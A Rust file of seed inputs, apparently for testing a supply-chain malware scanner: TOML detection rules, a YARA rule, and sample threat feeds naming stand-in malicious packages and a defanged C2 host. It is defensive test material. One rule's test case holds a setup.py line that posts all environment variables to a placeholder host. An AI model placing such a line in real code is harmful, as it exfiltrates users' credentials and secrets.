//! Starting points for what a user brings: rules and feeds.

use crate::data::seed;

pub fn rules() -> Vec<Vec<u8>> {
    let facts = "[[rules]]\nid = \"acme-ships\"\ntitle = \"sends it away\"\nseverity = \"high\"\nfiles = [\"*.py\"]\n\
         when = { chain = { from = \"environment.*\", to = \"network.*\" }, not = { host = \"*.acme.example\" } }\n\
         [[rules.cases]]\ntitle = \"posts\"\nexpect = \"fire\"\nfiles = { \"setup.py\" = \"import os, requests\\nrequests.post('https://h.invalid', json=dict(os.environ))\" }\n\
         [[rules]]\nid = \"acme-young\"\ntitle = \"is young\"\nseverity = \"low\"\nscope = \"package\"\n\
         when = { all = [{ age-days = { max = 7 } }, { any = [{ import = \"ctypes\" }, { language = \"native\" }, { name = \"acme-*\" }] }] }\n";
    let yara = "rule A : t {\n meta:\n  description = \"d\"\n  severity = \"high\"\n strings:\n  $a = \"x\\x41\" nocase wide ascii\n  $b = { 4D 5A ?? [2-4] ( 00 | FF ) }\n  $c = /ab+[^c]{2,3}(d|e)$/is\n\
         condition:\n  for any i in (1..#a) : (@a[i] < filesize) and 2 of them or uint16(0) == 0x5A4D and $c at 3\n}\nprivate rule B { condition: filesize > 1KB and not A }\n";
    vec![seed(0, facts), seed(1, yara)]
}

pub fn feeds() -> Vec<Vec<u8>> {
    let digest = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";
    let report = format!(
        r#"{{"schema":"x","tool":{{"name":"foretaste","version":"0","rules":"r"}},"releases":[{{"purl":"pkg:pypi/a@1","ecosystem":"pypi","name":"a","version":"1","verdict":"block","score":0.9,"artifacts":[{{"filename":"a","digest":{{"sha256":"{digest}"}}}}],"findings":[],"capabilities":[],"checks":{{"ran":1,"skipped":[]}}}}],"summary":{{"block":1,"review":0,"note":0,"clear":0,"incomplete":0}}}}"#
    );
    let csv = format!("package,versions,registry,summary,sha256,C2\nacme-evil,1.0|1.1,pypi,\"steals, and\nhides\",,\n@acme/evil,*,npm,,,hxxps://evil[.]example/x\n,,,,{digest},\n");
    vec![
        seed(0, &csv),
        seed(1, "ioc,type\nevil.example,domain\n10.0.0.1,ip\n"),
        seed(0, r#"{"id":"MAL-2024-1","summary":"s","withdrawn":null,"affected":[{"package":{"ecosystem":"PyPI","name":"a"},"versions":["1"],"ranges":[{"type":"ECOSYSTEM","events":[{"introduced":"0"},{"fixed":"2"}]}]}],"database_specific":{"iocs":{"domains":["h.invalid"]}}}"#),
        seed(1, "[{\"package\":\"a\",\"version\":\"1\",\"reason\":\"x\"}]"),
        seed(1, "{\"package\":\"a\",\"versions\":[\"1\"]}\n{\"package\":\"b\"}\n"),
        seed(2, &report),
    ]
}
